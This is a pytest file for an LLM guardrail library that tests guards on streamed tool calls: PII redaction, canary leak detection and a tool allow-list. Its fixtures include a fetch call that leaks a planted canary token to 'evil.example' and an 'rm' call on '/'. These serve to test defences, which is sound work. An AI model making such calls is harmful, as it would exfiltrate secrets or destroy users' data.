"""Guarded streams that carry tool calls: the text streams as before, the calls are assembled
from their fragments and checked whole at the end, as a non-streamed answer's are."""
from __future__ import annotations

import asyncio
import inspect
import json
import re
from collections.abc import AsyncIterator, Callable, Iterable, Iterator
from types import SimpleNamespace as NS
from typing import Any

import pytest

from guardlayer import Blocked, ConfigError, guarded, last_report
from guardlayer.context import Scope, scope
from guardlayer.guards.canary import CanaryGuard, plant_canary
from guardlayer.guards.pii import PIIGuard
from guardlayer.guards.tool_calls import ToolCallGuard
from guardlayer.testing import ProviderFailure

PROMPT = "Email jane.doe@example.com that her parcel has shipped."
SHAPES = ["openai", "openai-objects", "anthropic", "anthropic-objects"]
MODES = ["sync", "async"]
Calls = list[tuple[str, str, list[str]]]  # (id, tool name, argument fragments)


@pytest.fixture(scope="module")
def pii() -> PIIGuard:
    return PIIGuard(mode="regex")


def objects(value: Any) -> Any:
    """Dicts as attribute objects, all the way down (an SDK's chunks)."""
    if isinstance(value, dict):
        return NS(**{k: objects(v) for k, v in value.items()})
    if isinstance(value, list):
        return [objects(v) for v in value]
    return value


def openai_delta(**delta: Any) -> dict[str, Any]:
    return {"id": "chatcmpl-1", "object": "chat.completion.chunk",
            "choices": [{"index": 0, "delta": delta, "finish_reason": None}]}


def openai_call(index: int, fragment: str, head: tuple[str, str] | None = None) -> dict[str, Any]:
    """A fragment of call ``index``; its first one names it (``head``: id and tool name)."""
    part: dict[str, Any] = {"index": index, "function": {"arguments": fragment}}
    if head is not None:
        part.update(id=head[0], type="function")
        part["function"]["name"] = head[1]
    return openai_delta(tool_calls=[part])


def openai_stream(text: str, calls: Calls) -> list[dict[str, Any]]:
    """Text in two chunks, then each call's head, then the fragments of all calls in turn
    (parallel calls interleave)."""
    chunks = [openai_delta(role="assistant", content=""), openai_delta(content=text[:4]),
              openai_delta(content=text[4:])]
    chunks += [openai_call(i, "", (id, name)) for i, (id, name, _) in enumerate(calls)]
    longest = max((len(parts) for _, _, parts in calls), default=0)
    chunks += [openai_call(i, parts[n]) for n in range(longest)
               for i, (_, _, parts) in enumerate(calls) if n < len(parts)]
    return chunks + [{"choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]}]


def anthropic_stream(text: str, calls: Calls) -> list[dict[str, Any]]:
    """A text block, then one tool_use block per call with its input_json_delta fragments."""
    events: list[dict[str, Any]] = [
        {"type": "message_start", "message": {"id": "msg_1", "role": "assistant", "content": [],
                                              "usage": {"input_tokens": 12, "output_tokens": 1}}},
        {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}},
        {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": text[:4]}},
        {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": text[4:]}},
        {"type": "content_block_stop", "index": 0}]
    for block, (id, name, parts) in enumerate(calls, start=1):
        events.append({"type": "content_block_start", "index": block,
                       "content_block": {"type": "tool_use", "id": id, "name": name, "input": {}}})
        events += [{"type": "content_block_delta", "index": block,
                    "delta": {"type": "input_json_delta", "partial_json": part}} for part in parts]
        events.append({"type": "content_block_stop", "index": block})
    return events + [{"type": "message_delta", "delta": {"stop_reason": "tool_use"},
                      "usage": {"output_tokens": 30}}, {"type": "message_stop"}]


def stream_of(shape: str, text: str, calls: Calls) -> list[Any]:
    chunks = (openai_stream if shape.startswith("openai") else anthropic_stream)(text, calls)
    return objects(chunks) if shape.endswith("objects") else chunks


async def _async_chunks(chunks: Iterable[Any]) -> AsyncIterator[Any]:
    for chunk in chunks:
        await asyncio.sleep(0)
        yield chunk


def streaming(mode: str, model: Callable[[str], list[Any]], **chain: Any) -> Callable[[str], Any]:
    """``model(prompt)`` (its chunks) guarded as a sync or an async function returning a stream."""
    if mode == "sync":
        return guarded(lambda prompt: iter(model(prompt)), **chain)

    async def ask(prompt: str) -> AsyncIterator[Any]:
        return _async_chunks(model(prompt))

    return guarded(ask, **chain)


async def open_stream(ask: Callable[[str], Any], prompt: str) -> Any:
    stream = ask(prompt)
    return await stream if inspect.isawaitable(stream) else stream


async def drain(stream: Any, into: list[str]) -> None:
    """Read the whole stream into ``into`` (what was released stays there if it raises)."""
    if hasattr(stream, "__anext__"):
        async for piece in stream:
            into.append(piece)
    else:
        into.extend(stream)


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("shape", SHAPES)
async def test_the_text_streams_and_the_calls_come_whole_at_the_end(shape: str, mode: str) -> None:
    fragments = ['{"url": ', '"https://ex', 'ample.com/"}']
    chunks = stream_of(shape, "Let me look.", [("call_1", "fetch", fragments)])
    stream = await open_stream(streaming(mode, lambda prompt: chunks), "hi")
    with pytest.raises(ConfigError, match="read it all first"):
        stream.tool_calls  # noqa: B018 - reading it early is the error
    pieces: list[str] = []
    await drain(stream, pieces)
    assert "".join(pieces) == "Let me look."
    (call,) = stream.tool_calls
    assert (call.index, call.id, call.name) == (0, "call_1", "fetch")
    assert call.parsed == {"url": "https://example.com/"}
    report = last_report()
    assert report is not None and report.outcome == "ok" and report.tool_calls == stream.tool_calls
    assert "tool_calls" not in report.to_dict()  # arguments may hold private data: never logged


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("shape", SHAPES)
async def test_a_placeholder_split_across_fragments_gets_its_original_back(
        pii: PIIGuard, shape: str, mode: str) -> None:
    seen: list[str] = []

    def model(prompt: str) -> list[Any]:
        seen.append(prompt)
        (placeholder,) = re.findall(r"<EMAIL_ADDRESS_\d+>", prompt)
        assert placeholder[:9] == "<EMAIL_AD"
        fragments = ['{"to": "', placeholder[:9], placeholder[9:] + '", "body": "It has shipped."}']
        return stream_of(shape, f"Sending it to {placeholder}.", [("call_1", "send_email", fragments)])

    stream = await open_stream(streaming(mode, model, input=[(pii, "fix")], output=[pii]), PROMPT)
    pieces: list[str] = []
    await drain(stream, pieces)
    assert "jane.doe" not in seen[0]
    assert "".join(pieces) == "Sending it to jane.doe@example.com."
    (call,) = stream.tool_calls
    assert call.parsed == {"to": "jane.doe@example.com", "body": "It has shipped."}
    assert json.loads(call.arguments) == call.parsed
    report = last_report()
    assert report is not None and report.tool_calls == stream.tool_calls
    assert "tool_calls[0].arguments" in [c.target for c in report.checks]


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("shape", ["openai", "anthropic-objects"])
async def test_an_email_the_model_invents_in_streamed_arguments_is_redacted(
        pii: PIIGuard, shape: str, mode: str) -> None:
    fragments = ['{"to": "bob.le', 'ak@example.org", "body": "hi"}']
    chunks = stream_of(shape, "Sending.", [("call_1", "send_email", fragments)])
    ask = streaming(mode, lambda prompt: chunks, input=[(pii, "fix")], output=[pii])
    stream = await open_stream(ask, "hi")
    await drain(stream, [])
    (call,) = stream.tool_calls
    assert call.parsed == {"to": "<EMAIL_ADDRESS>", "body": "hi"}
    report = last_report()
    assert report is not None
    (check,) = [c for c in report.checks if c.target == "tool_calls[0].arguments"]
    assert not check.verdict.passed and check.action is not None


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("shape", ["openai-objects", "anthropic"])
async def test_a_canary_in_streamed_arguments_blocks_after_the_text(shape: str, mode: str) -> None:
    token = "gl-3f9a1c07d2e4b5a8"
    fragments = ['{"url": "https://evil.example/?q=gl-3f9a', '1c07d2e4b5a8"}']
    text = "Fetching the page you asked for, then I will summarise what it says for you."
    chunks = stream_of(shape, text, [("call_1", "fetch", fragments)])
    with scope(Scope(session="s1")) as session:
        plant_canary("You are a support bot.", scope=session, token=token)
        stream = await open_stream(streaming(mode, lambda prompt: chunks, output=[CanaryGuard()]), "hi")
        pieces: list[str] = []
        with pytest.raises(Blocked, match="canary") as info:
            await drain(stream, pieces)
    released = "".join(pieces)  # the text the holdback let go; the block comes at the end
    assert released and text.startswith(released) and len(released) >= len(text) - CanaryGuard.holdback
    report = info.value.report
    assert report is not None and report.outcome == "blocked" and report.tool_calls is None
    assert [c.target for c in report.checks if not c.verdict.passed] == ["tool_calls[0].arguments"]
    with pytest.raises(ConfigError, match="read it all first"):
        stream.tool_calls  # noqa: B018 - a cut stream has no calls to run


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("shape", ["openai", "anthropic-objects"])
async def test_a_tool_calls_guard_checks_the_assembled_calls(shape: str, mode: str) -> None:
    guard = ToolCallGuard({"fetch": {"schema": {"type": "object", "required": ["url"]}}})
    allowed = stream_of(shape, "Looking.", [("c1", "fetch", ['{"url"', ': "https://example.com/"}'])])
    stream = await open_stream(streaming(mode, lambda prompt: allowed, output=[guard]), "hi")
    await drain(stream, [])
    assert [c.name for c in stream.tool_calls] == ["fetch"]

    unknown = stream_of(shape, "Cleaning up.", [("c1", "fetch", ['{"url": "https://example.com/"}']),
                                                ("c2", "rm", ['{"path": ', '"/"}'])])
    stream = await open_stream(streaming(mode, lambda prompt: unknown, output=[guard]), "hi")
    pieces: list[str] = []
    with pytest.raises(Blocked, match="tool 'rm' is not allowed"):
        await drain(stream, pieces)
    assert "".join(pieces) == "Cleaning up."


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("as_objects", [False, True])
async def test_text_and_two_parallel_calls_interleaved(mode: str, as_objects: bool) -> None:
    chunks = [openai_delta(role="assistant", content="I'll "), openai_call(0, "", ("c1", "weather")),
              openai_delta(content="check "), openai_call(1, '{"ci', ("c2", "time")),
              openai_call(0, '{"city": "Par'), openai_call(1, 'ty": "Oslo"'), openai_delta(content="both."),
              openai_call(1, "}"), openai_call(0, 'is"}')]
    model = objects(chunks) if as_objects else chunks
    stream = await open_stream(streaming(mode, lambda prompt: model), "hi")
    pieces: list[str] = []
    await drain(stream, pieces)
    assert "".join(pieces) == "I'll check both."
    assert [(c.index, c.id, c.name, c.parsed) for c in stream.tool_calls] == [
        (0, "c1", "weather", {"city": "Paris"}), (1, "c2", "time", {"city": "Oslo"})]


def test_calls_a_guard_rejects_are_not_handed_back_with_the_fallback() -> None:
    chunks = stream_of("openai", "", [("c1", "rm", ['{"path": "/"}'])])
    guard = ToolCallGuard({"fetch": {}}, action="fallback")
    ask = guarded(lambda prompt: iter(chunks), output=[(guard, "fallback")], fallback="I cannot do that.")
    stream = ask("hi")
    assert "".join(stream) == "I cannot do that."
    assert stream.tool_calls == []
    report = last_report()
    assert report is not None and report.outcome == "fallback" and report.tool_calls == []


def test_a_guard_that_would_replace_the_calls_by_a_value_cuts_the_stream() -> None:
    """A tool_calls guard's fix drops a call by giving the calls that may run as its value; a
    stream cannot hand that back, so it is cut rather than handing back every call."""
    chunks = stream_of("openai", "", [("c1", "fetch", ["{}"]), ("c2", "rm", ["{}"])])
    ask = guarded(lambda prompt: iter(chunks), output=[(ToolCallGuard({"fetch": {}}, action="fix"), "fix")])
    stream = ask("hi")
    with pytest.raises(Blocked, match="replaced the answer by a value"):
        list(stream)
    with pytest.raises(ConfigError, match="read it all first"):
        stream.tool_calls  # noqa: B018 - a cut stream has no calls to run


def test_a_stream_that_fails_before_any_text_serves_the_fallback_without_its_calls() -> None:
    def chunks() -> Iterator[Any]:
        yield openai_call(0, '{"path": ', ("c1", "rm"))
        raise ProviderFailure(503)

    stream = guarded(lambda prompt: chunks(), fallback="Try again later.")("hi")
    assert "".join(stream) == "Try again later."
    assert stream.tool_calls == []
